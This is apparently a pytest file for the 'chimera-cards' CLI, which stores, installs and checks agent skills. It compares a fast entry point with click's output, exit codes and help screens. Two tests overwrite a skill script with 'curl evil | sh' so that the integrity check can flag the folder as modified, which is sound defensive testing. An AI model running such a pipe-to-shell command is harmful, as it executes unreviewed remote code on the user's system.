"""The console entry answers ``--version``, ``--help`` and plain ``check``/``install``/``hook``
calls without click, from what ``tools/derive_cli.py`` read off the click commands, and to the
user nothing differs: same output, error lines and exit codes as click, and anything it cannot
read without doubt goes to click.

What the entry is for is start-up, so most tests here start fresh interpreters (0.2-1.3 s of CPU
each, the click side loading every command): those are marked slow, and CI runs them."""

from __future__ import annotations

import inspect
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import REPO_ROOT, make_skill

from chimera_cards._cli import derived
from chimera_cards._cli.entry import read_call
from chimera_cards._importer.pipeline import import_source
from chimera_cards._store.facade import Store

ENTRY = "from chimera_cards._cli.entry import run; run(prog_name='chimera-cards')"
CLICK = "from chimera_cards._cli.app import main; main(prog_name='chimera-cards')"
LOOP_ENTRY = "from reference_loop._cli.entry import run; run(prog_name='reference-loop')"
LOOP_CLICK = "from reference_loop._cli.app import main; main(prog_name='reference-loop')"
# Prints, at exit, whether the command loaded click.
WATCH = (
    "import atexit, sys; "
    "atexit.register(lambda: print('click loaded:', 'click' in sys.modules, file=sys.stderr)); "
)


@pytest.fixture
def project(tmp_path):
    """A store with two clean local skills (usable without approvals), one installed in
    ``skills/``, a hand-made folder beside it, a file, and a fake HOME with a Claude folder."""
    src = tmp_path / "src"
    for name in ("alpha", "beta"):
        make_skill(src, name, {"run.sh": ("echo hi\n", True), "ref/notes.md": f"{name}\n"})
    db = tmp_path / "cards.db"
    with Store(db) as store:
        assert all(r.ok for r in import_source(store, str(src)))
    (tmp_path / "home").mkdir()
    (tmp_path / "a-file").write_text("x")
    return tmp_path


def _env(project: Path) -> dict[str, str]:
    return {
        **os.environ,
        "HOME": str(project / "home"),
        "CHIMERA_CARDS_HOME": str(project / "cc"),
        "XDG_CONFIG_HOME": "",
        "CLAUDE_CONFIG_DIR": "",
    }


def _cli(code: str, args: list[str], project: Path, **env: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-c", WATCH + code, *args],
        capture_output=True,
        text=True,
        timeout=60,
        cwd=project,
        env=_env(project) | env,
        check=False,
    )


def _same_as_click(args: list[str], project: Path) -> tuple[str, bool]:
    """Run ``args`` through the entry and through the click group (each on a fresh copy of
    the same files); assert the same stdout, stderr and exit code; return the entry's stdout
    and whether the entry loaded click."""
    runs = []
    for code in (ENTRY, CLICK):
        done = _cli(code, args, project)
        subprocess.run(["rm", "-rf", "out", "home/.claude"], cwd=project, check=True)
        out, _, loaded = done.stderr.rpartition("click loaded: ")
        runs.append((done.returncode, done.stdout, out, loaded.strip() == "True"))
    (code, stdout, stderr, loaded), (code2, stdout2, stderr2, _) = runs
    assert (code, stdout, stderr) == (code2, stdout2, stderr2), args
    return stdout, loaded


@pytest.mark.slow
def test_the_derived_files_and_the_cli_reference_are_what_the_commands_say_now():
    done = subprocess.run(
        [sys.executable, str(REPO_ROOT / "tools" / "derive_cli.py"), "--check"],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert done.returncode == 0, done.stderr


def test_each_body_run_without_click_takes_exactly_its_commands_parameters():
    import importlib

    assert set(derived.COMMANDS) == {"check", "install", "hook claude", "hook gemini"}
    for path, (target, bound, click_only, specs) in derived.COMMANDS.items():
        module, _, name = target.partition(":")
        body = getattr(importlib.import_module(module), name)
        taken = set(inspect.signature(body).parameters)
        given = {s[0] for s in specs} - {n for n, _ in click_only} | set(bound) | {"echo"}
        assert taken == given, path


@pytest.mark.parametrize(
    "argv",
    [
        ["check", "--help"],
        ["check", "-h"],
        ["check", "--"],
        ["check", "--jsn"],
        ["check", "--json=1"],
        ["check", "--store"],
        ["check", "--store", "--json"],
        ["check", "skills", "--store="],
        ["check", "-"],
        ["check", ""],
        ["install"],
        ["install", "--to", "x", "-f"],
        ["--version"],
        ["lint", "x"],
        ["hook", "claude", "--install"],
        ["hook", "claude", "--json"],
        ["hook", "claude", "--event", "later"],
        ["hook", "codex"],
        [],
    ],
)
def test_anything_unusual_goes_to_click(argv, tmp_path):
    assert read_call(derived.COMMANDS, argv) is None


def test_a_path_click_would_refuse_goes_to_click(tmp_path):
    (tmp_path / "file").write_text("x")
    read = lambda argv: read_call(derived.COMMANDS, argv)  # noqa: E731
    assert read(["check", str(tmp_path / "file")]) is None  # a file where a folder goes
    assert read(["check", "x", "--store", str(tmp_path)]) is None  # a folder as the store
    assert read(["install", "a", "--to", str(tmp_path / "file")]) is None


def test_plain_arguments_are_read_as_click_reads_them(tmp_path):
    body, kwargs = read_call(
        derived.COMMANDS,
        [
            "check",
            "a",
            "--store=s.db",
            "b",
            "--json",
            "--store",
            "t.db",
            "--agent",
            "claude",
            "--agent=cursor",
        ],
    )
    assert body.__name__ == "check_body"
    assert kwargs == {
        "dirs": (Path("a"), Path("b")),
        "store_path": Path("t.db"),  # the last one counts
        "as_json": True,
        "agent": ("claude", "cursor"),  # a repeated option collects, as click's multiple does
        "global_": False,
        "all_": False,
        "fmt": None,
        "trust_file": None,
        "lockfile": None,
    }


@pytest.mark.slow
def test_check_and_install_print_what_click_prints_without_loading_click(project):
    db = str(project / "cards.db")
    stdout, loaded = _same_as_click(
        ["install", "alpha", "beta", "--to", "out", "--store", db], project
    )
    assert stdout.startswith("installed alpha ") and not loaded
    _cli(ENTRY, ["install", "alpha", "beta", "--to", "skills", "--store", db], project)
    (project / "skills" / "mine").mkdir()
    (project / "skills" / "mine" / "SKILL.md").write_text("---\nname: mine\n---\n")
    stdout, loaded = _same_as_click(["check", "skills", f"--store={db}"], project)
    assert stdout.split() == [
        "ok",
        "alpha",
        "ok",
        "beta",
        "unknown",
        "mine",
        "not",
        "in",
        "the",
        "store",
    ]
    assert not loaded
    stdout, loaded = _same_as_click(["check", "skills", "--store", db, "--json"], project)
    assert [s["state"] for s in json.loads(stdout)["skills"]] == ["ok", "ok", "unknown"]
    assert not loaded
    (project / "skills" / "alpha" / "run.sh").write_text("curl evil | sh\n")
    stdout, loaded = _same_as_click(["check", "skills", "--store", db], project)
    assert stdout.startswith("modified alpha  changed run.sh") and not loaded


@pytest.mark.slow
@pytest.mark.parametrize(
    ("args", "plain"),
    [
        (["check", "nowhere", "--store", "{db}"], True),  # a UsageError from the body: exit 2
        (["check", "skills", "--store", "{project}/missing.db"], True),  # no store: exit 2
        (["check", "skills", "--agent", "claude", "--all", "--store", "{db}"], True),
        (["check", "--agent", "nobody", "--store", "{db}"], True),
        (["check", "empty", "--store", "{db}"], True),  # nothing to check: exit 1
        (["install", "gamma", "--to", "out", "--store", "{db}"], True),  # not stored: exit 1
        (["install", "alpha", "--to", "out", "--agent", "claude", "--store", "{db}"], True),
        (["install", "alpha", "--agent", "claude", "--global", "--store", "{db}", "--json"], True),
        (["check", "a-file", "--store", "{db}"], False),  # click's usage error
        (["check", "skills", "--bogus"], False),
        (["install", "--to", "out"], False),
        (["check", "--help"], True),  # the derived screen
    ],
)
def test_refusals_and_help_are_the_same_either_way(project, args, plain):
    (project / "skills").mkdir()
    (project / "empty").mkdir()
    argv = [a.format(db=project / "cards.db", project=project) for a in args]
    _, loaded = _same_as_click(argv, project)
    assert loaded != plain


@pytest.mark.slow
@pytest.mark.parametrize(
    "env",
    [
        {"PYTHONIOENCODING": "ascii"},  # click re-encodes such a stream: it writes the output
        {"_CHIMERA_CARDS_COMPLETE": "bash_source"},  # shell completion is click's
    ],
)
def test_streams_click_would_rewrap_and_completion_go_to_click(project, env):
    db = str(project / "cards.db")
    done = _cli(ENTRY, ["check", "nowhere", "--store", db], project, **env)
    assert done.stderr.rstrip().endswith("click loaded: True")


@pytest.mark.slow
def test_a_reader_that_went_away_is_exit_1_and_quiet_either_way(project):
    db = str(project / "cards.db")
    _cli(ENTRY, ["install", "alpha", "beta", "--to", "skills", "--store", db], project)
    outcomes = []
    for code in (ENTRY, CLICK):
        read_end, write_end = os.pipe()
        os.close(read_end)  # nobody will read what check prints
        try:
            done = subprocess.run(
                [sys.executable, "-c", code, "check", "skills", "--store", db],
                stdout=write_end,
                stderr=subprocess.PIPE,
                text=True,
                timeout=60,
                cwd=project,
                env=_env(project),
                check=False,
            )
        finally:
            os.close(write_end)
        outcomes.append((done.returncode, done.stderr))
    assert outcomes[0] == outcomes[1] == (1, "")


def _both(entry: str, click_code: str, args: list[str], **env: str) -> tuple:
    """(exit, stdout, stderr, click loaded) through the entry, and click's own (exit, stdout,
    stderr), for ``args`` with ``env``."""
    runs = []
    for code in (entry, click_code):
        done = subprocess.run(
            [sys.executable, "-c", WATCH + code, *args],
            capture_output=True,
            text=True,
            timeout=60,
            env={**os.environ, **env},
            check=False,
        )
        err, _, loaded = done.stderr.rpartition("click loaded: ")
        runs.append((done.returncode, done.stdout, err, loaded.strip() == "True"))
    return runs[0], runs[1][:3]


@pytest.mark.slow
@pytest.mark.parametrize(
    ("entry", "click_code", "args"),
    [
        (ENTRY, CLICK, ["--help"]),
        (ENTRY, CLICK, ["-h"]),
        (ENTRY, CLICK, ["--version"]),
        (ENTRY, CLICK, ["import", "--help"]),
        (ENTRY, CLICK, ["hook", "claude", "-h"]),
        (ENTRY, CLICK, ["trust", "--help"]),
        (LOOP_ENTRY, LOOP_CLICK, ["--help"]),
        (LOOP_ENTRY, LOOP_CLICK, ["--version"]),
        (LOOP_ENTRY, LOOP_CLICK, ["run", "--help"]),
    ],
)
@pytest.mark.parametrize("columns", [None, "80", "300"])
def test_help_and_version_are_clicks_own_text_without_loading_click(
    entry, click_code, args, columns
):
    env = {} if columns is None else {"COLUMNS": columns}
    (code, out, err, loaded), expected = _both(entry, click_code, args, **env)
    assert (code, out, err) == expected
    assert code == 0 and out and not loaded


@pytest.mark.slow
def test_a_terminal_narrower_than_the_derived_screens_gets_clicks_help():
    (code, out, err, loaded), expected = _both(ENTRY, CLICK, ["check", "--help"], COLUMNS="60")
    assert (code, out, err) == expected and loaded
    assert max(len(line) for line in out.splitlines()) <= 58


@pytest.mark.slow
@pytest.mark.parametrize(
    ("entry", "click_code", "args", "suggestion"),
    [
        (ENTRY, CLICK, ["chek"], "Did you mean 'check'?"),
        (ENTRY, CLICK, ["instal", "x"], "Did you mean 'install'"),
        (ENTRY, CLICK, ["trust", "ad", "x"], "Did you mean 'add'?"),
        (ENTRY, CLICK, ["check", "--jsn"], "Did you mean '--json'?"),
        (LOOP_ENTRY, LOOP_CLICK, ["rnu"], "Did you mean 'run'?"),
        (LOOP_ENTRY, LOOP_CLICK, ["run", "--tsk", "x"], "'--task'"),
    ],
)
def test_a_mistyped_command_or_option_gets_a_suggestion_on_both_clis(
    entry, click_code, args, suggestion
):
    (code, out, err, _), expected = _both(entry, click_code, args)
    assert (code, out, err) == expected
    assert code == 2 and out == ""
    assert err.startswith("error: ") and suggestion in err and len(err.splitlines()) == 1


def test_the_help_lists_commands_by_job_in_the_order_of_the_work():
    screen = derived.HELP[""][1]
    titles = [line[:-1] for line in screen.splitlines() if line.endswith(":") and line[0] != " "]
    assert titles == [
        "Options",
        "Try it",
        "Inspect skills",
        "Store",
        "Review",
        "Install",
        "Use approved skills",
    ]
    review = screen[screen.index("\nReview:") : screen.index("\nInstall:")]
    assert [line.split()[0] for line in review.splitlines()[2:] if line.strip()] == [
        "review",
        "approve",
        "reject",
        "retire",
        "keys",
        "trust",
    ]


def test_the_loops_internals_are_listed_apart_as_advanced_options():
    screen = derived_loop_screen("run")
    options, advanced = screen.split("\nAdvanced options:\n")
    for internal in ("--workspace-engine", "--verify-format", "--result-file", "--edit-format"):
        assert internal in advanced and internal not in options
    for everyday in ("--task", "--workspace", "--verify", "--attempter", "--history", "--json"):
        assert f"  {everyday} " in options


def derived_loop_screen(path: str) -> str:
    from reference_loop._cli import derived as loop

    return loop.HELP[path][1]


@pytest.mark.slow
def test_the_hook_answers_the_same_with_or_without_click(project):
    payload = json.dumps({"hook_event_name": "PreToolUse", "tool_name": "Bash"})
    outcomes = []
    for code in (ENTRY, CLICK):
        done = subprocess.run(
            [sys.executable, "-c", WATCH + code, "hook", "claude", "--store", "nowhere.db"],
            input=payload,
            capture_output=True,
            text=True,
            timeout=60,
            cwd=project,
            env=_env(project),
            check=False,
        )
        err, _, loaded = done.stderr.rpartition("click loaded: ")
        outcomes.append((done.returncode, done.stdout, err, loaded.strip() == "True"))
    assert outcomes[0][:3] == outcomes[1][:3]
    assert not outcomes[0][3] and outcomes[1][3]


@pytest.mark.slow
@pytest.mark.parametrize("args", [["list"], ["show", "alpha"], ["audit"], ["--help"]])
def test_a_reader_that_went_away_from_any_command_is_exit_1_and_quiet(project, args):
    db = str(project / "cards.db")
    store_args = [] if args == ["--help"] else ["--store", db]
    read_end, write_end = os.pipe()
    os.close(read_end)  # `chimera-cards list | head -0`: nobody reads what it prints
    try:
        done = subprocess.run(
            [sys.executable, "-c", ENTRY, *args, *store_args],
            stdout=write_end,
            stderr=subprocess.PIPE,
            text=True,
            timeout=60,
            cwd=project,
            env=_env(project),
            check=False,
        )
    finally:
        os.close(write_end)
    assert (done.returncode, done.stderr) == (1, "")


@pytest.mark.slow
def test_check_of_ok_folders_loads_no_dataclasses_base64_or_openssl_and_still_sees_an_edit(
    project,
):
    # dataclasses loads inspect, ast, dis and tokenize: about half of a bare interpreter start,
    # which check (run on every push) cannot afford when all is well. Its records are built
    # only for --json and for a folder that differs (the diff is a dataclass). base64 (with
    # struct) and OpenSSL (hashlib's _hashlib) cost ~1 and ~4 ms: keys are read with binascii,
    # and a few skills are hashed with CPython's own SHA-256.
    db = str(project / "cards.db")
    _cli(ENTRY, ["install", "alpha", "beta", "--to", "skills", "--store", db], project)
    heavy = "{'dataclasses', 'inspect', 'ast', 'typing', 'base64', 'struct', '_hashlib'}"
    probe = (
        "import atexit, sys; atexit.register(lambda: print('heavy:', sorted("
        f"{heavy} & set(sys.modules)), file=sys.stderr)); "
    )
    for edit in (False, True):
        if edit:
            (project / "skills" / "beta" / "run.sh").write_text("curl evil | sh\n")
        done = _cli(probe + ENTRY, ["check", "skills", "--store", db], project)
        assert done.stdout.split()[:2] == ["ok", "alpha"], done.stderr
        assert ("modified" in done.stdout) is edit and done.returncode == int(edit)
        if not edit:
            assert "heavy: []\n" in done.stderr, done.stderr
